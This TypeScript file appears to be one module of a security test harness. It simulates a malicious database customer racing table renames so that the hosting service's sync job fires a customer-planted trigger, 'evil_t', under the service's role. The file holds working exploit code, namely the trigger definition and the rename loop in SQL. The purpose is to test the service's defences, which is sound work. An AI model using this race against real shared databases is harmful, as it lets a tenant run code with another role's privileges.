/**
 * The customer of a writable database renames their table, which has a trigger, to a name that the service is about to
 * use.
 */
import postgres from "postgres";
import type { Random } from "../../../apps/sandbox/random";
import { type Attack, Tally } from "../attack";
import type { Connected, Service } from "../service";

/** Changes of settings in a round; each one makes the service create its table, if it is not there. */
const CHANGES = 10;
const EVERY_MS = 200;
const WRITES = 2;
const NAME = "_sync_history";
const HARM = "a trigger of the customer's ran as the service";

export const sqlRace: Attack = {
  name: "sql-race",
  finding: "S3",
  // The loop is a customer's heavy SQL. The canary's database is on the same server, and no limit of Postgres divides a
  // server's processors by role: docs/security.md, "Limitations", promises no latency there.
  mayTakeLonger: ["sql", "write"],
  async run(service, rounds, random) {
    const tally = new Tally();
    for (let round = 0; round < rounds; round++) {
      const { races, won } = await oneRace(service, random);
      tally.addMany(races, won, HARM);
    }
    return tally;
  },
};

interface Outcome {
  /** Changes during which the race was open: a lost one is over, because the service owns the name then. */
  races: number;
  /** How often a trigger of the customer ran as another role. */
  won: number;
}

/** Whether the service has the name, and whether the racer must stop. */
interface RaceState {
  isDecided: boolean;
  isOver: boolean;
}

async function oneRace(service: Service, random: Random): Promise<Outcome> {
  const { mallory } = service.accounts;
  const source = await service.sourceBase("Race");
  const key = await service.key({ [source.id]: "create" });
  const base = await service.connect(mallory, source, { api_key: key, settings: { live: false } });
  const racer = postgres(base.url, { max: 1, onnotice: () => {}, fetch_types: false });
  try {
    const { database } = await mallory.base(base.id);
    await service.operator("database", "set-writable", database.id, "on", "--json");
    await prepare(base);
    const state: RaceState = { isDecided: false, isOver: false };
    const racing = race(racer, state);
    let races = 0;
    for (let change = 0; change < CHANGES; change++) {
      if (!state.isDecided) races++;
      await mallory.change(base.id, { history: true, notify: change % 2 === 0 });
      await Bun.sleep(EVERY_MS);
    }
    state.isOver = true;
    await racing;
    // A won race shows with the next recorded change.
    for (let write = 0; write < WRITES; write++)
      await service
        .call(`${source.id}/Tasks/${random.pick(source.recordIds)}`, key, {
          method: "PATCH",
          body: { fields: { Name: `race ${write}` } },
        })
        .catch(() => undefined);
    return { races, won: Math.min(races, await winnings(base)) };
  } finally {
    await racer.end({ timeout: 1 });
    await service.disconnect(base);
  }
}

async function prepare({ sql, url }: Connected): Promise<void> {
  const role = new URL(url).username;
  await sql
    .unsafe(`
      create table loot (who text); grant all on loot to public;
      create function evil_t() returns trigger language plpgsql as $$ begin
        if current_user <> '${role}' then insert into public.loot values (current_user); end if;
        return new; end $$;
      create table parked (id bigint generated always as identity, seen_at timestamptz, table_name text,
        record_id text, operation text, old jsonb, new jsonb, by text);
      create trigger t before insert on parked for each row execute function evil_t();`)
    .simple();
}

/**
 * Renames back and forth for a while, so that it can be ended. The customer wins if the service creates its index on
 * the customer's table, and loses if the service owns the name.
 */
async function race(sql: postgres.Sql, state: RaceState): Promise<void> {
  while (!state.isOver && !state.isDecided) {
    await sql
      .unsafe(`do $$ begin
        for i in 1..200 loop
          begin execute 'alter table public.parked rename to ${NAME}'; exception when others then return; end;
          commit;
          if exists (select from pg_indexes where indexname = '${NAME}_by_time') then return; end if;
          begin execute 'alter table public.${NAME} rename to parked'; exception when others then return; end;
          commit;
        end loop; end $$`)
      .catch(() => Bun.sleep(50));
    const [row] = await sql<{ decided: boolean }[]>`
      select exists (select from pg_indexes where indexname = ${`${NAME}_by_time`}) as decided`.catch(
      () => [],
    );
    state.isDecided = row?.decided ?? false;
  }
}

async function winnings({ sql }: Connected): Promise<number> {
  const [row] = await sql<{ count: number }[]>`select count(*)::int as count from loot`;
  return row!.count;
}
